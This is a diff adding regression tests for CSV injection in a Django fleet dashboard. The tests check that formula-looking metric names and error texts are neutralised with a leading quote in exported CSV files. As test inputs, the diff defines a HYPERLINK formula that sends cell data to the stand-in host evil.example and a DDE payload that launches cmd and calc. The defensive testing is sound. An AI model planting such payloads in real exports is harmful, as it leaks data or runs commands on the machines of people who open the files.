@@ -3,6 +3,8 @@ regression test (at least) per finding, each seen failing on the code before its
 
 from __future__ import annotations
 
+import csv
+import io
 import logging
 import re
 from uuid import uuid4
@@ -13,7 +15,9 @@ from django.http import QueryDict
 from django.test import Client, RequestFactory
 from django.urls import URLPattern, URLResolver, get_resolver
 
-from tests.dashboard.conftest import VIEWER
+from fleet.core.csvfiles import csv_writer
+from tests.dashboard.conftest import RC, VIEWER
+from tests.helpers import REPO
 
 # --- 10. NUL and other text PostgreSQL cannot store, in a path or a query ------------------------
 
@@ -175,6 +179,58 @@ def test_10_lone_surrogates_are_refused_like_nul(db, path, query, status):
     reached = []
     response = StorableTextMiddleware(lambda r: reached.append(r))(request)
     assert response.status_code == status and reached == []
+
+
+# --- 16. CSV injection ---------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_16_failures_csv_neutralises_formula_looking_text_from_machines(burnt_in, person):
+    policy = burnt_in.requirements["gpu-diag"].policy
+    for n, evil in enumerate((HYPERLINK, DDE)):
+        # A metric named like a formula fails on one device; an error text like one on another.
+        burnt_in.requirements[f"evil-{n}"] = burnt_in.fleet.requirement(
+            policy, f"evil-{n}", test="evil-test", thresholds=[{"metric": evil, "comparator": "gte", "threshold": 1}]
+        )
+        burnt_in.report(f"evil-{n}", device=burnt_in.devices[1 + n], metrics={evil: {"value": 0}})
+        burnt_in.report(f"evil-{n}", device=burnt_in.devices[5 + n], metrics={}, status="errored", error=evil)
+    burnt_in.report("gpu-diag", device=burnt_in.devices[3], metrics={}, status="errored", error="-2+3")
+    burnt_in.sweep()
+    response = person(VIEWER).get("/sites/lon-1/failures.csv?order=target")
+    body = b"".join(response.streaming_content).decode()
+    rows = list(csv.DictReader(io.StringIO(body)))
+    failed = {
+        r["requirement"]: r["failing_rules"] for r in rows if r["requirement"].startswith("evil") and r["failing_rules"]
+    }
+    assert failed["evil-0"].startswith("'" + HYPERLINK) and failed["evil-1"].startswith("'" + DDE)
+    errors = [r["error"] for r in rows if r["verdict"] == "errored"]
+    assert {"'" + HYPERLINK, "'" + DDE, "'-2+3"} <= set(errors)
+    # No cell of the file starts a formula any more; our own numbers are still plain numbers.
+    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert all(r["attempts"].isdigit() for r in rows)
+    assert RC in {r["resource_class"] for r in rows}
+
+
+def test_16_our_own_numbers_stay_numbers_and_only_text_is_neutralised():
+    out = io.StringIO()
+    writer = csv_writer(out)
+    writer.writerow([-18.6, -3, 0, "-18.6", "=1+1", "+x", "\tx", "\rx", "@x", "plain", None])
+    assert out.getvalue() == "-18.6,-3,0,'-18.6,'=1+1,'+x,'\tx,\"'\rx\",'@x,plain,\r\n"
+
+
+def test_16_every_csv_the_service_writes_goes_through_the_one_writer():
+    """No other module builds a csv writer (src/, the agent, the bench)."""
+    writers = re.compile(r"csv\.(writer|DictWriter)\(")
+    others = [
+        str(path.relative_to(REPO))
+        for folder in ("src", "agent/src", "rules/src", "bench")
+        for path in (REPO / folder).rglob("*.py")
+        if writers.search(path.read_text()) and path != REPO / "src/fleet/core/csvfiles.py"
+    ]
+    assert others == []
 
 
 # --- 19. a date a page cannot read ---------------------------------------------------------------
